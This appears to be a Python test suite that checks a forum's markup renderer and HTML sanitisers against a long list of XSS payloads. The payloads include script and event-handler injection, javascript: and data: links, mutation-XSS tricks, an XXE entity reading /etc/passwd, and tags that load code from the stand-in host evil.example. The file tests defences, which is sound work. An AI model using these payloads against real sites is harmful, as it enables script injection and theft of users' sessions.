"""Hostile texts, of our own making: none comes out as anything that runs, loads or dresses up.

Each is tried as a member would write it, in several places of a text, and once more straight
against the sanitisers, as if the renderer had let it through. The result is parsed by a real
HTML5 parser, not searched for words.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from bleach._vendor import html5lib

from forum import markup

HANDLERS = (
    """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script x>alert(1)</script y>
<script>alert(1)//
<script\t>alert(1)</script\n>
<ScRiPt>alert`1`</sCrIpT>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<image src=x onerror=alert(1)>
<img \x00src=x onerror=alert(1)>
<img src=x one\x00rror=alert(1)>
<IMG """
    + '"'
    + '"'
    + '"'
    + """><SCRIPT>alert(1)</SCRIPT>">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x><script>1</script></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>1</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><script>1</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<video src=x onerror=alert(1)>
<audio src onloadstart=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button onclick=alert(1)>press</button>
<button formaction=javascript:alert(1)>press</button>
<form action=javascript:alert(1)><input type=submit>
<form id=x></form><button form=x formaction="javascript:alert(1)">X</button>
<isindex type=image src=1 onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<frameset onload=alert(1)><frame src=x>
<object data=javascript:alert(1)></object>
<object type="text/x-scriptlet" data="//evil.example/x"></object>
<embed src=javascript:alert(1)>
<embed code="http://evil.example/x.swf" allowscriptaccess=always>
<applet code=x archive=//evil.example/x.jar></applet>
<base href="//evil.example/">
<base href=javascript:/a/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x>
<link rel=prefetch href=//evil.example/seen>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Set-Cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<style><!--</style><script>alert(1)//--></script>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div style="behavior:url(x.htc)">
<div style="-moz-binding:url(//evil.example/x.xml#y)">
<p style="position:fixed;inset:0;background:#fff">You have been signed out</p>
<p class="staff badge" id="csrf_token">Moderator</p>
<a name="config"></a><a id="config"></a>
<p onmouseover=alert(1)>over</p>
<p onpointerrawupdate=alert(1)>over</p>
<p onanimationstart=alert(1) style=animation-name:x>
<p contenteditable onbeforeinput=alert(1)>
<x onclick=alert(1)>unknown</x>
<x contenteditable onblur=alert(1)>lose focus</x>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A&#x61vascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript:123">x</a>
<a href="javascript:1:2">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="\u2028javascript:alert(1)">x</a>
<a href="javascript\u200b:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://x.example/1">x</a>
<a href="filesystem:https://x.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)">x</a>
<a href="intent://x#Intent;scheme=http;end">x</a>
<a href="//evil.example">x</a>
<a href="\\\\evil.example">x</a>
<a href="https:evil" onclick=alert(1)>x</a>
<a href="http://x.org" target=_blank rel=opener ping="//evil.example">x</a>
<a href="http://x.org" style="position:fixed;inset:0">x</a>
<a href="http://x.org/"onclick="alert(1)">x</a>
<a href='http://x.org/' title='"onmouseover=alert(1) x="'>x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><script>alert(1)</script>
<title></title><script>alert(1)</script>
<title><a href="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><script>alert(1)</script>">
<plaintext><script>alert(1)</script>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><p id="</noframes><img src onerror=alert(1)>">
<listing>&lt;img onerror=alert(1) src&gt;</listing>
<comment><img src="</comment><img src=x onerror=alert(1)//">
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<?php echo 1 ?><script>alert(1)</script>
<%= 7*7 %> {{ 7*7 }} ${7*7} #{7*7} {% raw %}
<table><tr><td background="javascript:alert(1)">x</td></tr></table>
<table><script>alert(1)</script></table>
<table><caption><svg><title><style></title><img src onerror=alert(1)>
<td><style></td><img src=x onerror=alert(1)>
<p><svg><p></svg><img onerror=alert(1) src>
<select><style></select><img src=x onerror=alert(1)></style>
<option><iframe></select><b><script>alert(1)</script>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<slot name=x><portal src=//evil.example></portal>
<ruby><rt><rp><script>alert(1)</script></ruby>
<li type="&quot; onmouseover=alert(1)">x
<ol start="1&quot; onmouseover=&quot;alert(1)"><li>x</ol>
<code class="language-&quot; onclick=alert(1)">x</code>
<pre>\n\n<script>alert(1)</script></pre>
"""
)

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](java&Tab;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](&#106&#97vascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript%3Aalert(1))
[x](\javascript:alert(1))
[x](javascript\:alert(1))
[x](vbscript:x)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/png;base64,aaaa)
[x](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)
[x](http://x.org"onmouseover="alert(1))
[x](http://x.org "onmouseover=alert(1)")
[x](http://x.org '"><script>alert(1)</script>')
[x](http://x.org/"><script>alert(1)</script>)
[x](<http://x.org/"><script>alert(1)</script>>)
[x](http://x.org/&quot;&gt;&lt;script&gt;)
["><script>alert(1)</script>](http://x.org)
[<img src=x onerror=alert(1)>](http://x.org)
[![x](javascript:alert(1))](javascript:alert(2))
[![x](http://x.org/1)](http://x.org/2)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](http://evil.example/seen.gif)
!["onerror="alert(1)](http://x.org/x.png)
![x](http://x.org/x.png "onerror=alert(1)")
![<script>alert(1)</script>](http://x.org/x.png)
![![x](http://x.org/1)](http://x.org/2)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<http://x.org/"onclick="alert(1)>
<http://x.org/<script>alert(1)</script>>
<a@b.c"onclick=alert(1)>
[x]: javascript:alert(1)
[x]: <javascript:alert(1)> "title"
[x][y]
[y]: data:text/html,x
[x]: http://x.org 'a" onmouseover="alert(1)'
http://x.org/"onmouseover="alert(1)
http://x.org/'onmouseover='alert(1)
http://x.org/<script>alert(1)</script>
http://x.org/&quot;onmouseover=alert(1)
http://x.org/`onmouseover=alert(1)`
http://"><script>alert(1)</script>
http://javascript:alert(1)
https://x.org:javascript/
javascript://x.org/%0aalert(1)
*<script>alert(1)</script>*
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>``
~~<svg onload=alert(1)>~~
# <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
| <script>alert(1)</script> | a |
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
\<script\>alert(1)\</script\>
<scr\ipt>
<script
"""


def _hostile() -> list[str]:
    lines = [line for line in (HANDLERS + MARKDOWN).split("\n") if line.strip()]
    blocks = [
        '``` "onclick=alert(1)\nx\n```',
        "~~~<script>\nalert(1)\n~~~",
        '| a |\n|:-:" onclick=alert(1)|\n| b |',
        "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
        "<div\nonclick=alert(1)\n>x\n\n</div>",
        "<script>\n\nalert(1)\n\n</script>",
        "[x]\n\n[x]: javascript:alert(1)",
        '[x]\n\n[x]: <http://x.org/"onclick="alert(1)>',
        "[a\n](java\nscript:alert(1))",
        "<!--\n\n<script>alert(1)</script>\n-->",
        "<p>\n<style>\n\n*{display:none}\n</style>",
    ]
    return lines + blocks


HOSTILE = _hostile()
PLACES = ["{}", "> {}", "- {}", "# {}", "*{}*", "[{}](http://x.org)", "| a |\n|-|\n| {} |", "a {} b\n\n`{}`"]

ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start")}
HREF = re.compile(r"(?:https?://[^/@]|mailto:)", re.IGNORECASE)
WALLS_HREF = re.compile(r"(?:https?|mailto):", re.IGNORECASE)


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 200


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_out(text: str) -> None:
    for place in PLACES:
        for links in (True, False):
            html = markup.to_html(place.replace("{}", text), links)
            assert not list(_faults(html)), html


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitisers_alone_let_nothing_through(text: str) -> None:
    for html in (text, f"<p>{text}</p>", f"<table><tr><td>{text}", f'<a href="http://x.org">{text}</a>'):
        assert not list(_faults(markup._sanitised(html), WALLS_HREF)), html


@pytest.mark.parametrize("text", HOSTILE)
def test_what_comes_out_stays_the_same_when_it_is_parsed_again(text: str) -> None:
    once = markup.to_html(text)

    assert markup._last_pass(once) == once


@pytest.mark.parametrize("text", HOSTILE)
def test_excerpts_and_words_are_text(text: str) -> None:
    assert "\n" not in markup.plain(text, 200)
    assert len(markup.plain(text, 40)) <= 40


def test_the_walls_notice_what_they_are_for() -> None:
    bad = [
        "<script>1</script>",
        '<a href="javascript:1">x</a>',
        "<p onclick=x>",
        "<p style=x>",
        '<a href="/x">y</a>',
    ]

    assert all(list(_faults(html)) for html in bad)


def _faults(html: str, address: re.Pattern[str] = HREF) -> Iterator[str]:
    """What a browser's parser would find in it beyond the allowed tags, attributes and addresses."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            yield "a comment"
        elif element.tag not in markup.TAGS | {"DOCUMENT_FRAGMENT"}:
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            if (element.tag, name) not in ATTRIBUTES:
                yield f"{element.tag} {name}"
            if name == "href" and not address.match(value):
                yield f"href {value}"
